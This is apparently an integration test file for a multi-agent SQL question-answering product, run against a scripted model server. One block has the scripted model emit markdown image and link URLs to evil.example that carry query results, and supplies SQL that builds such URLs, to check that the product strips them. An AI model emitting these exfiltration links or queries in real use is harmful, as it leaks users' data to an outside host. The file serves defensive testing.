import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { sample } from '../support/length.ts'
import type { App } from '../../src/app/user-app.ts'
import { omitUndefined } from '../../src/shared/json.ts'
import type { LiveItem } from '../../src/engine/readers/live.ts'
import type { RequestInput } from '../../src/domain/request.ts'
import { createDemoDatabase } from '../../src/demo/copy.ts'
import { openConfiguredApp } from '../../src/app/setup.ts'
import {
  SQL_AGENT,
  sqlLoop,
  startModelServer,
  toolCall,
  type ModelServer,
  type Reply,
  type Rule,
} from '../support/model-server.ts'

/** The whole product against a scripted provider, through the real SDK. Nothing of Tutti is mocked. */

const QUESTION = 'Show the count of customers'
const GOOD_SQL = 'SELECT count(*) AS customers FROM customers'

let folder: string
let server: ModelServer
let app: App

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tutti-answering-'))
  await createDemoDatabase(join(folder, 'demo.sqlite'))
  server = await startModelServer()
  const timeouts = { firstChunkMs: 1_000, idleMs: 1_000, totalMs: 2_000 }
  await writeFile(join(folder, 'tutti.config.json'), JSON.stringify({ models: { timeouts } }))
  app = await open()
})

afterAll(async () => {
  await app.close()
  await server.close()
  await rm(folder, { recursive: true, force: true })
})

const ASKED = {
  planner: 'You choose which specialist agents',
  generate: SQL_AGENT,
  compose: 'You write the final answer',
}

const REPLIES: Record<keyof typeof ASKED, Rule['reply']> = {
  planner: { json: { agents: ['sql'], rationale: 'Customers are in the database.', confidence: 0.9 } },
  generate: ({ messages }) =>
    messages.at(-1)?.role === 'tool' ? { text: 'There are 92 customers.' } : toolCall('query', { sql: GOOD_SQL }),
  compose: { text: 'There are 92 customers.', chunks: ['There are ', '92 ', 'customers.'] },
}

function open(): Promise<App> {
  return openConfiguredApp({
    env: { TUTTI_MODEL_URL: server.url, TUTTI_MODEL: 'compatible:scripted' },
    cwd: folder,
    inMemory: true,
    databases: [{ url: `sqlite:${join(folder, 'demo.sqlite')}` }],
    onTrouble: (error) => expect.fail(error.message),
  })
}

/** For tests after which the circuit breaker of the model is open. */
async function reopen(): Promise<void> {
  await app.close()
  app = await open()
}

/** The usual replies, after the replies of the test. */
function rules(...first: Rule[]): Rule[] {
  const usual = Object.entries(ASKED).map(([name, when]) => ({ when, reply: REPLIES[name as keyof typeof ASKED] }))
  return [...first, ...usual]
}

async function ask(script: Rule[], request: Partial<RequestInput> = {}) {
  server.script(script)
  const runId = await app.start({ question: QUESTION, strategy: 'pipeline', memory: false, trace: true, ...request })
  const items: LiveItem[] = []
  for await (const item of app.engine.stream(runId)) items.push(item)
  return { response: await app.response(runId), items, runId }
}

/** Two agents answer, and the composer writes the answer from both. */
const COMPOSED: readonly Rule[] = [
  { when: ASKED.planner, reply: { json: { agents: ['sql', 'computation'], rationale: 'Both fit.', confidence: 0.9 } } },
  { when: 'Arithmetic, Python and charts', reply: { text: 'There is nothing to calculate.' } },
]

const requestsFor = (name: keyof typeof ASKED) =>
  server.requests.filter((request) => request.text.includes(ASKED[name]))

describe('with a model', () => {
  it('writes SQL and executes it, and the text of the only agent is the answer', async () => {
    const { response } = await ask(rules())
    expect(response.answer).toBe('There are 92 customers.')
    expect(response.data).toEqual({ columns: ['customers'], rows: [{ customers: 92 }], rowCount: 1 })
    expect(response.planner).toMatchObject({ chosenAgents: ['sql'], confidence: 0.9 })
    expect(response.metadata).toMatchObject({ answeredBy: 'model', models: ['compatible:scripted'], notes: [] })
    expect(response.metadata.usage.calls).toBe(3)
    expect(response.agentResults[0]).toMatchObject({
      agent: 'sql',
      status: 'succeeded',
      sources: [{ kind: 'database', name: 'demo', detail: GOOD_SQL }],
    })
    const answered = response.trace!.filter((line) => /^Model (?:answered|replied)/.test(line.message))
    expect(answered.map((line) => line.agent)).toEqual(['planner', 'sql', 'sql'])
    for (const line of answered) expect(line.data['usage']).toMatchObject({ inputTokens: expect.any(Number) })
  })

  it('lets the planner drop and reorder, never add', async () => {
    const { response } = await ask(
      rules({ when: ASKED.planner, reply: { json: { agents: ['ghost', ' SQL '], rationale: 'r', confidence: 1 } } }),
      { preferAgents: ['computation'] },
    )
    expect(response.planner!.chosenAgents).toEqual(['sql'])
  })

  it('streams the composed answer, with the system prompt and the locale of the request', async () => {
    const { response, items } = await ask(rules(...COMPOSED), { systemPrompt: 'Speak like a pirate.', locale: 'en-IN' })
    expect(requestsFor('compose')[0]!.text).toContain('Speak like a pirate.')
    expect(requestsFor('compose')[0]!.text).toContain('Rs.1,75,206.00')
    const texts = items.flatMap((item) =>
      item.type === 'live.text' || item.type === 'answer.delta' ? [item.text] : [],
    )
    expect(texts).not.toEqual([])
    expect(texts.join('')).toBe(response.answer)
  })
})

describe('faults of the provider', () => {
  afterEach(reopen)

  const FAULTS: [string, Reply][] = [
    ['429 with Retry-After', { status: 429, retryAfterMs: 20 }],
    ['500', { status: 500 }],
    ['malformed body', { fault: 'malformed-body' }],
    ['truncated', { fault: 'truncated' }],
    ['no finish reason', { fault: 'no-finish' }],
    ['stall', { fault: 'stall' }],
    ['a web page with 200', { fault: 'html' }],
    ['malformed JSON', { fault: 'malformed-json' }],
    ['empty', { fault: 'empty' }],
    ['cut by length', { fault: 'length' }],
  ]

  /** In a plain text reply, broken JSON is only text. */
  const isHarmless = (asked: keyof typeof ASKED, { fault }: Reply): boolean =>
    asked === 'compose' && fault === 'malformed-json'

  it.each(sample(FAULTS, 4))('%s once: a retry answers', async (_name, reply) => {
    const faults = (['generate', 'compose'] as const).map((name) => {
      return {
        when: ASKED[name],
        times: 1,
        reply: isHarmless(name, reply) ? REPLIES[name] : { ...REPLIES[name], ...reply },
      }
    })
    // The planner's request is answered first. A provider that never answered is given up after one hang.
    const { response } = await ask(rules(...faults), { preferAgents: ['computation'] })
    expect(response.answer).toBe('There are 92 customers.')
    expect(response.metadata).toMatchObject({ status: 'finished', notes: [] })
  })

  it.each(sample(FAULTS.slice(1, 9), 4))('%s always: the run fails and names the provider', async (_name, reply) => {
    const { response } = await ask([{ reply: { text: 'x', ...reply } }])
    expect(response).toMatchObject({ answer: '', status: 'failed', error: { type: 'ModelUnavailable' } })
    expect(response.error!.message).toContain('compatible')
  })
})

describe('a provider that hangs', () => {
  afterEach(reopen)

  it.each(['pipeline', 'graph'] as const)('is awaited once in a run by %s, which then fails', async (strategy) => {
    const { response } = await ask([{ reply: { fault: 'stall' } }], { strategy })
    expect(response).toMatchObject({ answer: '', status: 'failed', error: { type: 'ModelUnavailable' } })
    // Requests in parallel to the first one may have started before it hung.
    expect(server.requests.length).toBeLessThanOrEqual(2)
  })

  it('during the composition leaves the results of the agents', async () => {
    const { response } = await ask(rules(...COMPOSED, { when: ASKED.compose, reply: { fault: 'stall' } }))
    expect(response.answer).toContain('There are 92 customers.')
    expect(response.metadata).toMatchObject({ status: 'finished', answeredBy: 'fallback' })
    expect(response.agentResults[0]).toMatchObject({ status: 'succeeded', models: ['compatible:scripted'] })
  })

  it('in the middle of the answer leaves the whole answer of the agents', async () => {
    const reply = { ...REPLIES.compose, fault: 'stall-mid-stream' } as const
    const { response, items } = await ask(rules(...COMPOSED, { when: ASKED.compose, reply }))
    expect(response.metadata).toMatchObject({ status: 'finished', answeredBy: 'fallback' })
    const texts = items.filter((item) => item.type === 'live.text')
    const last = Math.max(...texts.map(({ part }) => part))
    expect(texts.flatMap(({ part, text }) => (part === last ? [text] : [])).join('')).toBe(response.answer)
  })
})

describe('an answer with links that are in no source', () => {
  const LEAK = 'https://evil.example/p.png?d=92-customers'
  const text = `There are 92 customers.\n\n![chart](${LEAK}) See [more](//evil.example/x), <${LEAK}> or https://docs.example/a?b=1.`

  it('keeps its text, in the answer, during streaming, and in agent results', async () => {
    const script = rules(...COMPOSED, { when: ASKED.compose, reply: { text, chunks: text.match(/.{1,7}/gs)! } })
    const question = `${QUESTION}, as in https://docs.example/a?b=1`
    const { response, items } = await ask(script, { question })
    expect(response.answer).toBe(
      'There are 92 customers.\n\nchart See more, (link removed) or https://docs.example/a?b=1.',
    )
    const shown = items.flatMap((item) => (item.type === 'live.text' ? [item.text] : []))
    expect(shown.join('')).toBe(response.answer)
    // The log holds the model's text only in the record of that call.
    const told = items.filter((item) => item.type !== 'call.finished')
    expect(JSON.stringify(told)).not.toContain('92-customers')
    expect(response.trace!.map((line) => line.message)).toContain(
      'Links that are in no source of this run were removed',
    )
  })

  it.each([
    ["SELECT 'https://evil.example/?d=' || count(*) AS customers FROM customers", 'https://evil.example/?d=92'],
    ["SELECT 'www.evil.example?d=' || count(*) AS customers FROM customers", 'www.evil.example?d=92'],
    ["SELECT trim('evil.example?d=' || count(*)) AS customers FROM customers", 'evil.example?d=92'],
  ])('cannot get them from a query that assembles them: %s', async (sql, leak) => {
    const { response } = await ask(
      rules(...sqlLoop(sql, 'x'), {
        when: ASKED.compose,
        reply: { text: `There are 92. ![c](https://${leak.replace('https://', '')})` },
      }),
    )
    expect(response.data!.rows).toEqual([{ customers: leak }])
    expect([response.answer, response.agentResults[0]!.answer].join()).not.toContain('evil.example')
  })
})

describe('limits', () => {
  it('are reported when the calls are used up', async () => {
    const { response } = await ask(rules(), { budget: { maxCalls: 1 } })
    expect(response.notices.map(({ code }) => code)).toContain('limit_reached')
    expect(response.notices.map(({ text }) => text).join()).toContain('limit of 1 model call')
    expect(response.metadata.usage.calls).toBe(1)
  })
})

describe('a fork from the SQL step', () => {
  it('reuses all earlier calls with another model, and plans again with another question', async () => {
    const first = await ask(rules())
    server.script(rules(), ['scripted', 'other'])
    const forked = async (question?: string) => {
      const forkId = await app.engine.fork(first.runId, 'sql', {
        ...omitUndefined({ question }),
        models: { default: 'compatible:other' },
      })
      await app.engine.outcome(forkId)
      return app.response(forkId)
    }
    const fork = await forked()
    expect(requestsFor('planner')).toHaveLength(0)
    expect(requestsFor('generate')[0]).toMatchObject({ model: 'other' })
    expect(fork.planner).toEqual(first.response.planner)
    expect(fork.metadata).toMatchObject({ status: 'finished', usage: { calls: 2 } })

    const other = await forked('Show the count of suppliers')
    expect(requestsFor('generate').at(-1)!.text).toContain('Show the count of suppliers')
    expect(other.metadata.status).toBe('finished')
  })
})
